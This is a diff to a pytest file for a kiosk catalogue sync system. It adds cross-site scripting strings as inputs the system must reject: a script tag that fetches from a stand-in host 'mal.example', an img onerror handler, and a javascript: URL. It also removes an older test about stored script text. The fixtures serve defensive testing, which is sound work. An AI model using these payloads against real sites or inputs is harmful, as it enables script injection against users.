@@ -12,7 +12,6 @@ from typing import Any
 import pytest
 
 from kiosk.domain.records.canonical import canonical_bytes
-from offline_cache.store import CatalogueStore
 from tests.domain.walk_package import node, package
 from tests.kiosk.sync.faults.real_editions import Bodies
 from tests.kiosk.sync.faults.scene import FIRST, SECOND, Scene
@@ -46,6 +45,11 @@ def successors_in_a_ring() -> Bodies:
 
 HOSTILE: dict[str, tuple[Bodies, str]] = {
     "a string of 10 MB": (edited(name={"es": "a" * 10_000_000}), "larger than any honest one|no honest one more"),
+    "script in a text": (
+        edited(name={"es": "Acta <script>fetch('//mal.example')</script> de nacimiento"}), "holds markup ('<script>')",
+    ),
+    "a picture that runs": (edited(name={"es": "Acta <img src=x onerror=alert(1)>"}), "holds markup"),
+    "an address that runs": (edited(keyword={"es": ["javascript:alert(1)"]}), "holds markup"),
     "decisions in a ring": (
         guided(node("a", relevant="${b} = '1'"), node("b", relevant="${a} = '1'")), "decide each other",
     ),
@@ -90,13 +94,3 @@ def test_what_no_honest_catalogue_says(
     scene.kiosk.says(scene.server.url)
     assert scene.kiosk.served()[0] == 2, "what is honest again is taken"
     record_property("told", f"{name:<34} by {by}: {said[:200]}")
-
-
-def test_script_in_a_text_is_text(scene: Scene) -> None:
-    """Nothing on the screens runs what it shows: the words arrive and stay words."""
-    text = "<script>alert('hola')</script><img src=x onerror=alert(1)>"
-    scene.repository.publish(edited(name={"es": text}), [FIRST])
-    assert scene.kiosk.says(scene.server.url) == "packs"
-    store, _ = CatalogueStore.open(scene.kiosk.state, scene.kiosk.seed)
-    assert store.service("mx-fed/ficha-6").name.text("es") == text
-    store.close()
